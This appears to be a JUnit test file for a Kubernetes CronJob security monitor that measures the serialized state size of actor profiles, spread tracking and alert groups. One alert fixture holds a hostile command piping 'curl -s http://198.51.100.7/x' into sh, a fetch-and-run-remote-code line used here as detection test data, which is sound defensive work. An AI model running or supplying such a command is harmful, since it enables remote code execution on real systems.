package dev.cronsentinel.context;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.alert.AlertFactory;
import dev.cronsentinel.config.ContextConfig;
import dev.cronsentinel.model.ActorProfile;
import dev.cronsentinel.model.ActorSpread;
import dev.cronsentinel.model.Alert;
import dev.cronsentinel.testing.AuditEvents;
import java.io.IOException;
import java.time.Instant;
import java.util.HashMap;
import java.util.Map;
import org.apache.flink.api.common.serialization.SerializerConfigImpl;
import org.apache.flink.api.common.typeinfo.TypeInformation;
import org.apache.flink.api.common.typeutils.TypeSerializer;
import org.apache.flink.core.memory.DataOutputSerializer;
import org.junit.jupiter.api.Test;

/**
 * Measures the serialized size per key of the context and grouping state (what RocksDB stores per value and
 * a checkpoint carries), for a typical key and for a key filled to every bound of the shipped config. The
 * numbers are the "State size" section of docs/BENCHMARKS.md; the bounds below fail the build if the state
 * grows past what that section promises.
 */
class ContextStateSizeTest {
    static final ContextConfig CFG = ContextConfig.defaults();
    static final long T = Instant.parse("2026-11-20T09:00:00Z").toEpochMilli();
    /** The TTL wrapper adds the last-write timestamp to every value. */
    static final int TTL_BYTES = 8;

    static <T> int bytes(Class<T> type, T value) throws IOException {
        TypeSerializer<T> s = TypeInformation.of(type).createSerializer(new SerializerConfigImpl());
        DataOutputSerializer out = new DataOutputSerializer(4096);
        s.serialize(value, out);
        return out.length() + TTL_BYTES;
    }

    static Map<String, Long> entries(int n, String prefix) {
        Map<String, Long> m = new HashMap<>();
        for (int i = 0; i < n; i++) {
            m.put(prefix + i, T + i * 3_600_000L);
        }
        return m;
    }

    static ActorProfile typicalProfile() {
        // A GitOps service account deploying one CronJob and its Jobs: two kinds, two images, one client, one network.
        return new ActorProfile(T, T + 13 * 86_400_000L,
                Map.of("cronjobs", T, "jobs", T),
                Map.of("registry.example.com/reports/nightly-report", T, "registry.example.com/reports/report-uploader", T),
                Map.of("argocd-application-controller", T), Map.of("10.42.1.0/24", T), T + 14 * 86_400_000L);
    }

    static ActorProfile fullProfile() {
        // Every set at its bound, with realistic lengths: 46-char repositories, 24-char client families,
        // IPv6 /64 networks (the longer form).
        return new ActorProfile(T, T + 13 * 86_400_000L,
                Map.of("cronjobs", T, "jobs", T, "pods", T),
                entries(CFG.maxImageRepositories(), "registry.example.com/platform-team/service-"),
                entries(CFG.maxClients(), "internal-deploy-client-"),
                entries(CFG.maxNetworks(), "2001:db8:4a2c:"), T + 14 * 86_400_000L);
    }

    @Test
    void profileStateStaysSmallPerKey() throws IOException {
        int typical = bytes(ActorProfile.class, typicalProfile());
        int full = bytes(ActorProfile.class, fullProfile());
        System.out.printf("actor-profile: typical %d B, full %d B%n", typical, full);
        assertThat(typical).isLessThanOrEqualTo(384);
        assertThat(full).isLessThanOrEqualTo(4096);
    }

    @Test
    void spreadStateStaysSmallPerActor() throws IOException {
        int idle = bytes(ActorSpread.class, new ActorSpread(Map.of(), T, false, T + 86_400_000L));
        int spreading = bytes(ActorSpread.class, new ActorSpread(entries(3, "team-"), T, true, T + 600_000L));
        int full = bytes(ActorSpread.class, new ActorSpread(entries(CFG.spreadMaxNamespaces(), "tenant-namespace-"), T, true, T));
        System.out.printf("actor-spread: remembered spread %d B, spreading over 3 %d B, full %d B%n", idle, spreading, full);
        assertThat(idle).isLessThanOrEqualTo(64);
        assertThat(full).isLessThanOrEqualTo(1280);
    }

    @Test
    void anOpenAlertGroupHoldsOneAlert() throws IOException {
        Alert a = AlertFactory.fromScored(AuditEvents.job("payments", "sync-x").id("5a3c0001-1f2e-4b7a-9c1d-000000000001")
                .at(Instant.ofEpochMilli(T)).by("mallory@example.com").agent("curl/8.5.0").from("198.51.100.23")
                .command("/bin/sh", "-c", "curl -s http://198.51.100.7/x | sh").scored(), "default");
        int group = bytes(Alert.class, a) + 8; // + the period-start map key
        System.out.printf("alert-groups: one open group %d B%n", group);
        assertThat(group).isLessThanOrEqualTo(2048);
    }
}
